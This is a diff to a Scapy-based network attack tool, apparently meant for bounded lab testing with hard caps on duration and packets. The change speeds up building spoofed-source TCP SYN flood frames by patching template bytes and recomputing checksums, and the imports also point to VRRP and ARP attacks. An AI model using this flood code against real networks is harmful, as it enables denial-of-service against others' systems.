@@ -49,6 +49,7 @@ import os
 import random
 import signal
 import socket
+import struct
 import subprocess
 import sys
 import time
@@ -57,6 +58,7 @@ from pathlib import Path
 from scapy.layers.inet import IP, TCP, in4_chksum
 from scapy.layers.l2 import ARP, Ether
 from scapy.layers.vrrp import VRRPv3
+from scapy.utils import checksum
 
 # Hard caps whatever the command line says: every attack is bounded in time and packets.
 LIMITS = {"duration_s": 60.0, "packets": 10000, "rate_per_s": 5000.0, "min_interval_s": 0.01}
@@ -65,6 +67,7 @@ VRRP_GROUP = "224.0.0.18"
 VRRP_GROUP_MAC = "01:00:5e:00:00:12"  # 224.0.0.18 mapped onto Ethernet multicast
 VRRP_PROTO = 112
 BROADCAST = "ff:ff:ff:ff:ff:ff"
+_TCP_AT = 14 + 20  # Ethernet header + an option-less IPv4 header
 
 
 class AttackError(RuntimeError):
@@ -120,12 +123,28 @@ def syn_plan(count: int, seed: int, sources: list[str]) -> list[tuple[str, int, 
 
 
 def syn_frames(plan, dst: str, dport: int, src_mac: str, dst_mac: str) -> list[bytes]:
-    """The wire bytes of every planned SYN (TTL 64, window 64240, MSS 1460: an ordinary SYN)."""
+    """The wire bytes of every planned SYN (TTL 64, window 64240, MSS 1460: an ordinary SYN).
+
+    Scapy builds one template frame per source address; each SYN is its template with the source
+    port and ISN written in and the TCP checksum recomputed (Scapy's own checksum over the pseudo-
+    header and segment). Building 5000 SYNs layer by layer in Scapy takes ~2 s on this VM, all of
+    it before the first packet leaves; this takes ~50 ms and gives the same bytes (unit-tested)."""
+    templates: dict[str, tuple[bytes, bytes]] = {}
     frames = []
     for src, sport, isn in plan:
-        pkt = (Ether(src=src_mac, dst=dst_mac) / IP(src=src, dst=dst, ttl=64)
-               / TCP(sport=sport, dport=dport, flags="S", seq=isn, window=64240, options=[("MSS", 1460)]))
-        frames.append(bytes(pkt))
+        if src not in templates:
+            frame = bytes(Ether(src=src_mac, dst=dst_mac) / IP(src=src, dst=dst, ttl=64)
+                          / TCP(sport=0, dport=dport, flags="S", seq=0, window=64240, options=[("MSS", 1460)]))
+            segment = frame[_TCP_AT:]
+            pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(segment))
+            templates[src] = (frame, pseudo)
+        frame, pseudo = templates[src]
+        segment = bytearray(frame[_TCP_AT:])
+        struct.pack_into("!H", segment, 0, sport)
+        struct.pack_into("!I", segment, 4, isn)
+        struct.pack_into("!H", segment, 16, 0)
+        struct.pack_into("!H", segment, 16, checksum(pseudo + bytes(segment)))
+        frames.append(frame[:_TCP_AT] + bytes(segment))
     return frames
 
 
